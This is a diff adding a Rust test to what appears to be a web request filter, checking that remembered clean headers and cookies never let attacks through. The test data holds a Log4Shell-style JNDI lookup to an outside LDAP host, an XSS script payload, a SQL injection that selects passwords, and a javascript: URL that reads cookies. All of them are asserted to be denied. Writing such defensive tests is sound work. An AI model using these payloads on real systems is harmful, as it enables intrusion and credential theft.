@@ -543,6 +543,51 @@ fn previous_document_memo_judges_free_text_changed_in_place() {
 }
 
 #[test]
+fn header_and_cookie_memo_never_hides_an_attack() {
+    // a client's User-Agent and cookies are remembered once scanned clean;
+    // another value, even one byte apart or the same bytes in another header
+    // or cookie part (memo.rs tests), is scanned
+    let p = balanced();
+    let ua = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0";
+    let sid = "sid=6f1c2a9e0b7d4c3a8e5f1b2c3d4e5f6a7b8c9d0e1f2a3b4c; theme=dark";
+    let head = |ua: &str, cookie: &str, referer: &str| {
+        let h = headers(&[("user-agent", ua), ("cookie", cookie), ("referer", referer)]);
+        inspect_head(
+            &p,
+            &RequestHead {
+                method: &Method::GET,
+                path: "/",
+                query: None,
+                headers: &h,
+                route: "r",
+            },
+        )
+    };
+    let site = "https://shop.example.org/basket";
+    for _ in 0..3 {
+        assert_eq!(head(ua, sid, site), Verdict::Allow);
+    }
+    let jndi = "Mozilla/5.0 ${jndi:ldap://198.51.100.7:1389/a} Gecko/20100101 Firefox/128.0";
+    let spliced = format!("{}<script>alert(1)</script>", &ua[..ua.len() - 25]);
+    assert_eq!(spliced.len(), ua.len());
+    for (u, c, r) in [
+        (jndi, sid, site),
+        (spliced.as_str(), sid, site),
+        (
+            ua,
+            "sid=x' union select password from users--; theme=dark",
+            site,
+        ),
+        // an attack in another header of the same client
+        (ua, sid, "javascript:alert(document.cookie)//"),
+    ] {
+        assert!(head(u, c, r).is_deny(), "{u} / {c} / {r}");
+        assert!(head(u, c, r).is_deny(), "again: {u} / {c} / {r}");
+        assert_eq!(head(ua, sid, site), Verdict::Allow);
+    }
+}
+
+#[test]
 fn path_memo_never_hides_an_attack() {
     // the path of a clean request is remembered per profile; any other path,
     // including one that differs by a byte, is scanned
